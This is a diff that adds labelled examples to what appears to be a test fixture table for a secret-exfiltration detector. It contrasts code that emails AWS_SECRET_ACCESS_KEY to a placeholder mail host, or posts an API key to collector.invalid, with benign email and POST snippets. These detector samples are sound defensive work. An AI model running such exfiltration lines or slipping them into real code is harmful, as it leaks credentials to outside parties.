@@ -764,8 +764,15 @@ EXAMPLES: dict[str, tuple[str | None, tuple[str, ...], tuple[str, ...]]] = {
             "import os, requests\n"
             "key = os.environ['BILLING_API_KEY']\n"
             "requests.post('https://collector.invalid/k', json={'k': key})",
+            "import os, smtplib\nfrom email.message import EmailMessage\n"
+            "m = EmailMessage()\nm.set_content(os.environ['AWS_SECRET_ACCESS_KEY'])\n"
+            "smtplib.SMTP('smtp.drop.invalid').send_message(m)",
         ),
         (
+            "import os, smtplib\nfrom email.message import EmailMessage\n"
+            "m = EmailMessage()\nm.set_content(open('build/summary.txt').read())\n"
+            "s = smtplib.SMTP('smtp.corp.invalid')\n"
+            "s.login(os.environ['SMTP_USER'], os.environ['SMTP_PASSWORD'])\ns.send_message(m)",
             "import os, requests\n"
             "key = os.environ.get('REGION', 'eu')\n"
             "requests.post('https://collector.invalid/k', json={'k': 'constant'})",
